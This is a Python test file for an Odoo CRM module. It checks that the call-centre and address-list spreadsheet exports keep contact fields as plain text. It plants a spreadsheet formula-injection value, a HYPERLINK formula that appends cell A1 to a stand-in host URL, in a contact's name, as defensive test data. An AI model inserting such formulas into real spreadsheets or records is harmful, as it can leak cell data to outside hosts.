import io
import re
import zipfile

import openpyxl

from odoo.fields import Command
from odoo.tests import HttpCase, tagged

from .common import TargetGroupsCommon

FORMULA = '=HYPERLINK("http://x"&A1,"Klick")'
URL = 'http://x.example/Klick'


@tagged('post_install', '-at_install')
class TestSpreadsheets(HttpCase, TargetGroupsCommon):
    """Every workbook the module writes carries a contact's texts as texts: a name that looks like a
    formula or a street that looks like a link never becomes a live formula or hyperlink."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.partner_anna.write({'name': FORMULA, 'street': URL, 'zip': '80331', 'city': 'München',
                                'country_id': cls.env.ref('base.de').id})
        cls.user_plain.group_ids = [Command.link(cls.env.ref('base.group_allow_export').id)]
        cls.group = cls.env['crm.target.group'].create({
            'name': 'Football', 'include_profile_ids': [Command.set(cls.tag_football.ids)],
            'call_centre': True, 'user_id': cls.user_plain.id})

    def _download(self, url):
        self.authenticate('tg_user', 'tg_userx')
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200, response.text[:500])
        return response.content

    def _assert_texts(self, content):
        """No formula and no hyperlink in any sheet's XML, and both texts in cells of type text."""
        with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
            sheets = [name for name in xlsx.namelist() if re.match(r'xl/worksheets/sheet\d+\.xml$', name)]
            self.assertTrue(sheets)
            for name in sheets:
                xml = xlsx.read(name).decode()
                self.assertFalse(re.findall(r'<c r="(\w+)"[^>]*><f[ >]', xml), f"formulas in {name}")
                self.assertFalse(re.findall(r'<hyperlink ref="(\w+)"', xml), f"hyperlinks in {name}")
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        types = {cell.value: cell.data_type for sheet in workbook.worksheets
                 for row in sheet.iter_rows() for cell in row if cell.value is not None}
        self.assertEqual((types.get(FORMULA), types.get(URL)), ('s', 's'))

    def test_call_centre_file(self):
        self._assert_texts(self._download(f'/crm_target_groups/call_centre/{self.group.id}'))

    def test_address_list(self):
        action = self.group.with_user(self.user_plain).action_export_addresses()
        Export = self.env['crm.address.export'].with_user(self.user_plain).with_context(action['context'])
        # texts only: rows of texts written at once
        self._assert_texts(self._download(f'/crm_target_groups/address_export/{Export.create({}).id}'))
        # a number among the further columns: the row goes through xlsxwriter's typed cells
        template = self.env['ir.exports'].create({'name': 'Colour', 'resource': 'res.partner', 'export_fields': [
            Command.create({'name': 'color'})]})
        export = Export.create({'export_template_id': template.id})
        self._assert_texts(self._download(f'/crm_target_groups/address_export/{export.id}'))
